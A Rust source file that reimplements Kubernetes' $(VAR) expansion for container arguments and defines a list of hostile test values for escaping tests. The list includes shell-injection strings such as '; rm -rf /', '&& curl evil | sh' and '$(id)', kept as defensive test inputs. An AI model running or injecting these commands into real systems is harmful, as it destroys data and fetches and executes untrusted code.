//! What the kubelet does to a container's `args` and env values before the program sees them
//! (`$(VAR)` expansion), and the hostile values the escaping tests send through it: the tests of
//! the rendered children check that every user value arrives exactly as written.

use std::collections::BTreeMap;

/// Values a user could write to break out of one argv element or rewrite another's.
pub const HOSTILE: &[&str] = &[
    "$(HOME)",
    "$(COLUMNS)",
    "$(MASTER_ADDR)x",
    "$$(COLUMNS)",
    "a$$b",
    "$",
    "x$(",
    "${COLUMNS}",
    "`id`",
    "$(id)",
    "; rm -rf /",
    "&& curl evil | sh",
    "it's \"quoted\"",
    "ünïcødé ✓ 日本語",
    "$ünïcødé",
    "-- --output_dir=/tmp",
    "{time}{rank}",
];

/// Kubernetes' `$(VAR)` expansion, ported byte for byte from k8s.io/kubernetes
/// third_party/forked/golang/expansion: `$$` → `$`; `$(NAME)` → the value when NAME is defined,
/// else left as written; any other `$` plus one byte is copied, that byte converted to a rune as
/// Go's `string(byte)` does (which garbles a multi-byte character after a bare `$`).
pub fn expand(input: &str, env: &BTreeMap<String, String>) -> String {
    let bytes = input.as_bytes();
    let mut out: Vec<u8> = Vec::new();
    let mut checkpoint = 0;
    let mut cursor = 0;
    while cursor < bytes.len() {
        if bytes[cursor] == b'$' && cursor + 1 < bytes.len() {
            out.extend_from_slice(&bytes[checkpoint..cursor]);
            let rest = &bytes[cursor + 1..];
            let advance = match rest[0] {
                b'$' => {
                    out.push(b'$');
                    1
                }
                b'(' => match rest.iter().skip(1).position(|&b| b == b')') {
                    Some(i) => {
                        let close = i + 1;
                        let name = std::str::from_utf8(&rest[1..close]).unwrap();
                        match env.get(name) {
                            Some(v) => out.extend_from_slice(v.as_bytes()),
                            None => out.extend_from_slice(format!("$({name})").as_bytes()),
                        }
                        close + 1
                    }
                    None => {
                        out.extend_from_slice(b"$(");
                        1
                    }
                },
                other => {
                    out.push(b'$');
                    out.extend_from_slice(char::from(other).to_string().as_bytes());
                    1
                }
            };
            cursor += advance;
            checkpoint = cursor + 1;
        }
        cursor += 1;
    }
    out.extend_from_slice(&bytes[checkpoint.min(bytes.len())..]);
    String::from_utf8_lossy(&out).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn expansion_matches_kubernetes() {
        let env = BTreeMap::from([("A".to_string(), "x".to_string())]);
        assert_eq!(expand("$(A)", &env), "x");
        assert_eq!(expand("$$(A)", &env), "$(A)");
        assert_eq!(expand("$(B)", &env), "$(B)");
        assert_eq!(expand("a$$b", &env), "a$b");
        assert_eq!(expand("$", &env), "$");
        assert_eq!(expand("x$(", &env), "x$(");
        assert_eq!(expand("$x", &env), "$x");
        // A bare `$` before a multi-byte character garbles it: one more reason to escape.
        assert_ne!(expand("$ü", &env), "$ü");
        assert_eq!(expand("$$ü", &env), "$ü");
    }
}
